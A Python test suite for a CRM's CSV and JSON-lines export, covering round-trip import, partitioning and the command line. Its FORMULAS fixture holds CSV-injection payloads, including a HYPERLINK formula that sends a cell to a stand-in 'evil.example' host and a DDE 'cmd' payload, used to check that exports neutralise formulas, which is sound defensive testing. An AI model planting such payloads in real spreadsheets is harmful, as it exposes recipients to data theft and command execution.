"""Export of customers, prospects and interactions: CSV and JSON lines, streamed, round-trippable."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import attrs
import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select

from crmkit import CustomField, Party, User, ValidationError, hookimpl
from crmkit.app import Crm
from crmkit.core import exporting
from crmkit.core.csv_cells import FORMULA_STARTS, csv_cell, restore
from crmkit.core.exporting import export_records
from crmkit.core.importing import import_parties
from crmkit.core.interactions import build_interaction, log_interaction
from crmkit.core.parties import build_party, convert_prospect, create_party, load_parties
from crmkit.core.tables import party
from crmkit.core.users import create_user
from crmkit.testing import http_client, invoke, register_plugin

COMPARED = (
    "kind",
    "first_name",
    "last_name",
    "organisation_name",
    "birth_date",
    "emails",
    "phones",
    "addresses",
    "owner_id",
    "custom",
    "source",
    "customer_number",
)


class Fields:
    @hookimpl
    def register_custom_fields(self) -> list[CustomField]:
        return [
            CustomField("customer", "shop_visits", "integer"),
            CustomField("customer", "shop_vip", "boolean"),
            CustomField("customer", "shop_since", "date"),
        ]


@pytest.fixture
def app(make_crm: Callable[..., Crm]) -> Crm:
    crm = make_crm(plugins=[register_plugin(Fields(), name="shop")])
    with crm.transaction() as tx:
        create_user(tx, User(username="jdoe", display_name="Jane Doe", role="sales"))
    return crm


def create(app: Crm, role: str, **data: Any) -> Party:
    with app.transaction() as tx:
        return create_party(tx, build_party(role, data, region="DE"))


def all_parties(app: Crm) -> list[Party]:
    with app.engine.connect() as conn:
        ids = list(conn.execute(select(party.c.id).order_by(party.c.id)).scalars())
        loaded = load_parties(conn, ids)
    return [loaded[i] for i in ids]


def export(app: Crm, what: str, fmt: str) -> str:
    out = io.StringIO()
    export_records(app, what, fmt, out)
    return out.getvalue()


def test_a_customers_csv_export_imports_back_as_the_same_customers(
    app: Crm, tmp_path: Path
) -> None:
    create(
        app,
        "customer",
        first_name="Jürgen",
        last_name="Müller",
        birth_date="1975-03-09",
        emails=["J.Mueller@Example.DE", "juergen@example.org"],
        phones=["030 1234567", "+43 1 5123456"],
        addresses=[
            {
                "street": "Hauptstraße",
                "street_number": "3a",
                "postcode": "10115",
                "city": "Berlin",
                "region": "BE",
                "address_line2": "Hinterhaus",
                "country": "DE",
            }
        ],
        owner_id=1,
        custom={"shop_visits": 3, "shop_vip": True, "shop_since": "2020-01-31"},
        source="trade fair",
        customer_number="K-1",
    )
    create(app, "customer", kind="organisation", organisation_name='Bäckerei "Sonne", Köln')
    originals = all_parties(app)
    path = tmp_path / "customers.csv"
    path.write_text(export(app, "customers", "csv"), encoding="utf-8")

    result = import_parties(app, "customer", path)

    assert (result.created, result.rejected) == (2, 0)
    assert set(result.ignored_columns) == {"id", "created_at", "updated_at"}
    copies = all_parties(app)[2:]
    for original, copy in zip(originals, copies, strict=True):
        assert copy.id != original.id
        for name in COMPARED:
            assert getattr(copy, name) == getattr(original, name), name


FORMULAS = {
    "last_name": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "organisation_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "source": "-2+3",
    "city": "+43",
    "customer_number": "'=already quoted",
}


def test_no_cell_of_a_csv_export_is_a_spreadsheet_formula(app: Crm) -> None:
    create(
        app,
        "customer",
        **{k: v for k, v in FORMULAS.items() if k != "city"},
        addresses=[{"city": FORMULAS["city"], "address_line2": "=1+1"}],
        phones=["030 1234567"],
        custom={"shop_visits": -3},
    )
    prospect = create(app, "prospect", last_name="Berg")
    with app.transaction() as tx:
        when = datetime(2024, 5, 1, 10, 0, tzinfo=UTC)
        data = {
            "party_id": prospect.id,
            "channel": "note",
            "direction": "internal",
            "occurred_at": when,
        }
        log_interaction(tx, build_interaction({**data, "subject": "=1+1", "summary": "@x"}))

    cells = {
        what: list(csv.reader(io.StringIO(export(app, what, "csv"))))[1:]
        for what in ("customers", "prospects", "interactions")
    }

    for what, rows in cells.items():
        for cell in (cell for row in rows for cell in row):
            assert not cell.startswith(FORMULA_STARTS), (what, cell)
    (customer,) = csv.DictReader(io.StringIO(export(app, "customers", "csv")))
    assert customer["last_name"] == "'" + FORMULAS["last_name"]
    assert customer["customer_number"] == "''=already quoted"
    assert customer["phones"] == "'+49301234567" and customer["shop_visits"] == "'-3"
    assert customer["address_line2"] == "'=1+1"
    (line,) = export(app, "customers", "jsonl").splitlines()
    assert json.loads(line)["last_name"] == FORMULAS["last_name"]  # JSON lines as they are


def test_formula_like_values_import_back_from_an_export_unchanged(app: Crm, tmp_path: Path) -> None:
    create(
        app,
        "customer",
        **{k: v for k, v in FORMULAS.items() if k != "city"},
        addresses=[{"city": FORMULAS["city"], "street": "'t Hoofdstraat"}],
        phones=["+43 1 5123456", "030 1234567"],
        custom={"shop_visits": -3},
    )
    (original,) = all_parties(app)
    path = tmp_path / "customers.csv"
    path.write_text(export(app, "customers", "csv"), encoding="utf-8")

    result = import_parties(app, "customer", path)

    assert (result.created, result.rejected) == (1, 0)
    copy = all_parties(app)[1]
    for name in COMPARED:
        assert getattr(copy, name) == getattr(original, name), name


def test_a_formula_sent_through_the_public_lead_form_is_exported_as_text(app: Crm) -> None:
    enquiry = {
        "last_name": FORMULAS["last_name"],
        "email": "anna.schmidt@web.de",
        "message": "=1+1",
    }
    assert http_client(app).post("/forms/lead", json=enquiry).status_code == 202

    (prospect,) = csv.DictReader(io.StringIO(export(app, "prospects", "csv")))
    (enquired,) = csv.DictReader(io.StringIO(export(app, "interactions", "csv")))

    assert prospect["last_name"] == "'" + FORMULAS["last_name"]
    assert enquired["summary"] == "'=1+1"


@pytest.mark.parametrize("separator", [";", "\t"])
def test_a_formula_after_another_separator_stays_inside_its_quoted_cell(
    app: Crm, separator: str
) -> None:
    # Excel in a German locale splits a .csv file on ";", a tab-separated reader on tabs.
    enquiry = {"last_name": "Schmidt", "email": "anna.schmidt@web.de", "message": "hi;=1+1"}
    enquiry["message"] = enquiry["message"].replace(";", separator)
    http_client(app).post("/forms/lead", json=enquiry)

    written = export(app, "interactions", "csv")

    for line in written.splitlines():
        cells = split_as_a_spreadsheet(line, separator)
        assert not any(cell.strip('"').startswith(FORMULA_STARTS) for cell in cells), line


def split_as_a_spreadsheet(line: str, separator: str) -> list[str]:
    """The cells a spreadsheet finds: split on ``separator`` where no quote is open."""
    cells, cell, quoted = [], "", False
    for char in line:
        if char == separator and not quoted:
            cells, cell = [*cells, cell], ""
            continue
        quoted ^= char == '"'
        cell += char
    return [*cells, cell]


@given(st.text())
def test_a_neutralised_cell_is_never_a_formula_and_restores_to_its_value(value: str) -> None:
    cell = csv_cell(value)

    assert not cell.startswith(FORMULA_STARTS)
    assert restore(cell) == value


def test_csv_columns_are_the_import_fields_with_several_values_joined(app: Crm) -> None:
    create(
        app, "prospect", last_name="Berg", emails=["a@example.de", "b@example.de"], status="working"
    )

    (row,) = csv.DictReader(io.StringIO(export(app, "prospects", "csv")))

    assert row["emails"] == "a@example.de;b@example.de"
    assert row["status"] == "working"
    assert "customer_number" not in row and "shop_visits" not in row


def test_jsonl_holds_every_address_and_the_owner_by_username(app: Crm) -> None:
    created = create(
        app,
        "prospect",
        last_name="Berg",
        owner_id=1,
        addresses=[{"city": "Berlin"}, {"city": "Wien", "country": "AT"}],
    )

    (line,) = export(app, "prospects", "jsonl").splitlines()

    record = json.loads(line)
    assert record["id"] == created.id and record["role"] == "prospect"
    assert [a["city"] for a in record["addresses"]] == ["Berlin", "Wien"]
    assert record["owner"] == "jdoe"
    assert record["created_at"] == created.created_at.isoformat()  # type: ignore[union-attr]


def test_a_converted_prospect_is_exported_with_the_customers(app: Crm) -> None:
    prospect = create(app, "prospect", last_name="Berg")
    with app.transaction() as tx:
        convert_prospect(tx, prospect.id, customer_number="K-9")  # type: ignore[arg-type]

    assert export(app, "prospects", "jsonl") == ""
    (record,) = [json.loads(line) for line in export(app, "customers", "jsonl").splitlines()]
    assert record["customer_number"] == "K-9" and record["converted_at"] is not None


def test_every_party_is_exported_once_in_id_order_across_partitions(
    app: Crm, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exporting, "PARTITION", 3)
    ids = [
        create(app, "prospect", last_name=f"P{i}", phones=[f"030 {1_000_000 + i}"]).id
        for i in range(10)
    ]

    rows = list(csv.DictReader(io.StringIO(export(app, "prospects", "csv"))))

    assert [int(r["id"]) for r in rows] == ids
    assert [r["phones"] for r in rows] == [f"'+4930{1_000_000 + i}" for i in range(10)]


def test_writes_go_on_while_an_export_runs(app: Crm) -> None:
    create(app, "prospect", last_name="Berg")
    written: list[Party] = []

    class WritingMeanwhile(io.StringIO):
        def write(self, text: str) -> int:
            if "Berg" in text and not written:  # a row was read: the export's reading now
                written.append(create(app, "prospect", last_name="Meanwhile"))
            return super().write(text)

    export_records(app, "prospects", "csv", WritingMeanwhile())

    assert written[0].id is not None


def test_interactions_are_exported_with_their_references(app: Crm) -> None:
    prospect = create(app, "prospect", last_name="Berg")
    when = datetime(2024, 5, 1, 10, 0, tzinfo=UTC)
    data = {
        "party_id": prospect.id,
        "channel": "phone",
        "direction": "inbound",
        "occurred_at": when,
        "subject": "Rückruf",
        "owner_id": 1,
        "refs": [{"kind": "shop.order", "id": "42"}],
    }
    with app.transaction() as tx:
        logged = log_interaction(tx, build_interaction(data))

    (row,) = csv.DictReader(io.StringIO(export(app, "interactions", "csv")))
    (record,) = [json.loads(line) for line in export(app, "interactions", "jsonl").splitlines()]

    assert row["id"] == str(logged.id) and row["occurred_at"] == when.isoformat()
    assert row["owner"] == "jdoe" and json.loads(row["refs"]) == [
        {"kind": "shop.order", "id": "42"}
    ]
    assert record["subject"] == "Rückruf" and record["refs"] == [{"kind": "shop.order", "id": "42"}]
    assert record["party_id"] == prospect.id


def test_export_command_writes_to_standard_output_or_a_file(app: Crm, tmp_path: Path) -> None:
    created = create(app, "customer", last_name="Berg", customer_number="K-7")

    to_stdout = invoke(app, "export", "customers", "--format", "jsonl")
    to_file = invoke(app, "export", "customers", "--output", str(tmp_path / "c.csv"))

    assert to_stdout.exit_code == 0, to_stdout.output
    assert json.loads(to_stdout.stdout)["customer_number"] == "K-7"
    assert to_file.exit_code == 0, to_file.output
    assert "exported 1 customers" in to_file.stderr
    (row,) = csv.DictReader((tmp_path / "c.csv").open(encoding="utf-8"))
    assert row["id"] == str(created.id)


def test_an_unknown_format_is_refused(app: Crm) -> None:
    with pytest.raises(ValidationError, match="expected one of csv, jsonl"):
        export(app, "customers", "xml")


def test_party_records_name_every_field_of_the_entity(app: Crm) -> None:
    # A new entity attribute must be exported too; the owner is exported by username.
    created = create(app, "customer", last_name="Berg")
    (record,) = [json.loads(line) for line in export(app, "customers", "jsonl").splitlines()]

    fields = {a.name for a in attrs.fields(type(created))}
    assert fields - {"owner_id"} <= set(record)
